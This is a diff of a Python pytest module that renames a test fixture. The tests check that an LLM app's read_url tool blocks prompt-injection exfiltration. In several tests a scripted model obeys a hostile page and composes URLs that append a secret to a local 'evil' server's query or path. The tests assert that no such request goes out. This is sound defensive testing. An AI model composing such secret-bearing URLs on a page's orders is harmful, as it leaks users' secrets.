@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 
 from tests.scenarios.security.hostile import listens, obeys, page_tool, tool_messages
-from tests.support.fixtures import Behind
+from tests.support.fixtures import StartApp
 from tests.support.scripted_upstream import ScriptedUpstream, says
 
 SECRET = "hunter2-secret"
@@ -39,12 +39,12 @@ LOOPS = pytest.mark.parametrize("loop", [True, False], ids=["v2", "legacy"])
 
 
 @LOOPS
-def test_g03_a_model_that_obeys_a_page_gets_nothing_out(behind: Behind, loop: bool) -> None:
+def test_g03_a_model_that_obeys_a_page_gets_nothing_out(start_app: StartApp, loop: bool) -> None:
     """read_url rejects a URL that the model composed from a page's order and a secret; no request is sent."""
     page = [""]
     with ScriptedUpstream(says(), models=listens) as evil:
         composed = f"http://127.0.0.1:{evil.port}/collect?q={SECRET}"
-        app, upstream = behind(
+        app, upstream = start_app(
             obeys(("open_page", {}), ("read_url", {"url": composed})),
             settings={"signalbox_fetch_allow": "127.0.0.1", "tool_loop_v2": loop},
             extra_tools=[page_tool(lambda: page[0])],
@@ -65,12 +65,12 @@ def test_g03_a_model_that_obeys_a_page_gets_nothing_out(behind: Behind, loop: bo
 
 
 @LOOPS
-def test_g03_what_a_page_links_to_may_be_read_and_no_letter_more(behind: Behind, loop: bool) -> None:
+def test_g03_what_a_page_links_to_may_be_read_and_no_letter_more(start_app: StartApp, loop: bool) -> None:
     """A page's link can be read; the model's query or path is rejected, and a tracking parameter is not sent."""
     with ScriptedUpstream(says(), models=listens) as site:
         link = f"http://127.0.0.1:{site.port}/article?id=7"
         urls = [link, f"{link}&q={SECRET}", f"http://127.0.0.1:{site.port}/{SECRET}", f"{link}&utm_source={SECRET}"]
-        app, _ = behind(
+        app, _ = start_app(
             obeys(("open_page", {}), *(("read_url", {"url": url}) for url in urls)),
             settings={"signalbox_fetch_allow": "127.0.0.1", "tool_loop_v2": loop},
             extra_tools=[page_tool(lambda: {"text": f"More is [here]({link})."})],
@@ -80,7 +80,7 @@ def test_g03_what_a_page_links_to_may_be_read_and_no_letter_more(behind: Behind,
         assert [asked.path for asked in site.catalogues] == ["/article?id=7"] * 2
 
 
-def test_g03_links_lead_on_from_page_to_page(behind: Behind) -> None:
+def test_g03_links_lead_on_from_page_to_page(start_app: StartApp) -> None:
     """Links of a page that was read can be read, and no other URLs."""
 
     async def chain(exchange: Any) -> None:
@@ -90,18 +90,18 @@ def test_g03_links_lead_on_from_page_to_page(behind: Behind) -> None:
 
     with ScriptedUpstream(says(), models=chain) as site:
         base = f"http://127.0.0.1:{site.port}"
-        app, _ = behind(
+        app, _ = start_app(
             obeys(*(("read_url", {"url": f"{base}/{path}"}) for path in ("a", "ax", "axx", "b"))),
             settings={"signalbox_fetch_allow": "127.0.0.1"},
         )
         assert app.ask(f"Read {base}/a").result_codes() == [None, None, None, "URL_NOT_FOUND_HERE"]
 
 
-def test_g03_calls_made_beside_the_search_are_judged_by_what_the_model_had_read(behind: Behind) -> None:
+def test_g03_calls_made_beside_the_search_are_judged_by_what_the_model_had_read(start_app: StartApp) -> None:
     """Both calls of one step precede any result, so a URL of the model's own is fetched."""
     with ScriptedUpstream(says(), models=listens) as site:
         own = f"http://127.0.0.1:{site.port}/own"
-        app, _ = behind(
+        app, _ = start_app(
             obeys([("open_page", {}), ("read_url", {"url": own})], ("read_url", {"url": f"{own}2"})),
             settings={"signalbox_fetch_allow": "127.0.0.1"},
             extra_tools=[page_tool(lambda: "page", eager=True)],
@@ -110,7 +110,7 @@ def test_g03_calls_made_beside_the_search_are_judged_by_what_the_model_had_read(
         assert [asked.path for asked in site.catalogues] == ["/own"]
 
 
-def test_g03_what_the_user_names_may_be_read_after_any_page(behind: Behind) -> None:
+def test_g03_what_the_user_names_may_be_read_after_any_page(start_app: StartApp) -> None:
     """URLs of the user and the system prompt stay allowed, also in a later turn; URLs of the model do not."""
     with ScriptedUpstream(says(), models=listens) as site:
         host = f"http://127.0.0.1:{site.port}"
@@ -123,7 +123,7 @@ def test_g03_what_the_user_names_may_be_read_after_any_page(behind: Behind) -> N
             {"role": "user", "content": f"Now {host}/now"},
         ]
         urls = [f"{host}/{name}" for name in ("first", "found", "now", "rules", "said")]
-        app, upstream = behind(
+        app, upstream = start_app(
             obeys([("read_url", {"url": url}) for url in urls]),
             settings={"signalbox_fetch_allow": "127.0.0.1"},
         )
@@ -133,9 +133,9 @@ def test_g03_what_the_user_names_may_be_read_after_any_page(behind: Behind) -> N
         assert all(DELIMITED.fullmatch(one) for one in tool_messages(upstream.asked[0].body))
 
 
-def test_g03_delimiters_keep_the_prompts_prefix(behind: Behind) -> None:
+def test_g03_delimiters_keep_the_prompts_prefix(start_app: StartApp) -> None:
     """Earlier messages keep the same bytes in each request, numbers included (prompt caches, C15)."""
-    app, upstream = behind(
+    app, upstream = start_app(
         obeys(("open_page", {}), ("calculate", {"expression": "1+1"}), ("open_page", {})),
         extra_tools=[page_tool(lambda: "page")],
     )
@@ -149,7 +149,7 @@ def test_g03_delimiters_keep_the_prompts_prefix(behind: Behind) -> None:
     assert len(numbers) == 2  # the same page, another call
 
 
-def test_g03_a_redirect_of_a_named_page_is_followed(behind: Behind) -> None:
+def test_g03_a_redirect_of_a_named_page_is_followed(start_app: StartApp) -> None:
     """A redirect by the page's server is followed, since it reveals nothing; the fetcher checks each address."""
 
     async def moved(exchange: Any) -> None:
@@ -160,7 +160,7 @@ def test_g03_a_redirect_of_a_named_page_is_followed(behind: Behind) -> None:
 
     with ScriptedUpstream(says(), models=moved) as site:
         link = f"http://127.0.0.1:{site.port}/old"
-        app, _ = behind(
+        app, _ = start_app(
             obeys(("open_page", {}), ("read_url", {"url": link})),
             settings={"signalbox_fetch_allow": "127.0.0.1"},
             extra_tools=[page_tool(lambda: link)],
